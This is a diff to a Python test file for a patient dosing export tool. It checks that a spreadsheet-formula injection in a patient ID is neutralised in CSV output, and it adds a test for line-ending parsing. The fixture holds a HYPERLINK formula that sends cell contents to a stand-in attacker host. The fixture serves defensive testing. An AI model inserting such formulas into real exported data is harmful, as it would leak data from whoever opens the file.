@@ -35,6 +35,8 @@ from dosing.export.table import to_csv, write_csv_rows
 TODAY = dt.date.today()
 START = (TODAY + dt.timedelta(days=3)).isoformat()
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+#: HOSTILE as a CSV cell: a quote before the formula, and before the quote after the comma.
+SAFE_HOSTILE = '\'=HYPERLINK("http://evil.example/?x="&A1,\'"click")'
 
 MIXED = f"""\
 id,height,weight,start,choose
@@ -106,7 +108,7 @@ def test_good_rows_are_written_and_bad_rows_reported_with_their_line(tmp_path, c
     assert "3 patients" in err.splitlines()[-1]
     assert "5 rows rejected" in err.splitlines()[-1]
     written = list(dict.fromkeys(r[0] for r in _data_rows(out)))
-    assert written == ["P001", "P003", "'" + HOSTILE]
+    assert written == ["P001", "P003", SAFE_HOSTILE]
 
 
 def test_combined_row_count_is_the_sum_of_each_patients_administrations(tmp_path):
@@ -140,7 +142,7 @@ def test_hostile_id_is_neutralised_in_the_combined_csv(tmp_path):
     out = tmp_path / "all.csv"
     _run(str(patients), "--protocol", "D-KRd", "--cycles", "2", "-o", str(out))
     ids = {r[0] for r in _data_rows(out)}
-    assert "'" + HOSTILE in ids
+    assert SAFE_HOSTILE in ids
     assert not any(i.startswith(("=", "+", "-", "@")) for i in ids)
 
 
@@ -609,3 +611,27 @@ def test_write_cohort_files_renders_each_patient(tmp_path):
 def test_safe_file_name(identifier, name):
     """Ids become portable file names: no separators, no dot files, no device names."""
     assert safe_file_name(identifier) == name
+
+
+class _Trickle(io.RawIOBase):
+    """A stream that gives one byte per read, so that every line end is split across reads."""
+
+    def __init__(self, data: bytes) -> None:
+        self._data = data
+
+    def readable(self) -> bool:
+        return True
+
+    def read(self, size: int = -1) -> bytes:
+        head, self._data = self._data[:1], self._data[1:]
+        return head
+
+
+def test_line_ends_split_across_reads_are_read_once():
+    """LF, CRLF and CR alone end one line each, even when a CRLF is split between two reads."""
+    from dosing.cohort import _text_lines
+
+    data = b"a\r\nb\rc\nd\r\r\ne\r"
+    expected = ["a\n", "b\n", "c\n", "d\n", "\n", "e\n"]
+    assert list(_text_lines(io.BytesIO(data))) == expected
+    assert list(_text_lines(_Trickle(data))) == expected  # type: ignore[arg-type]
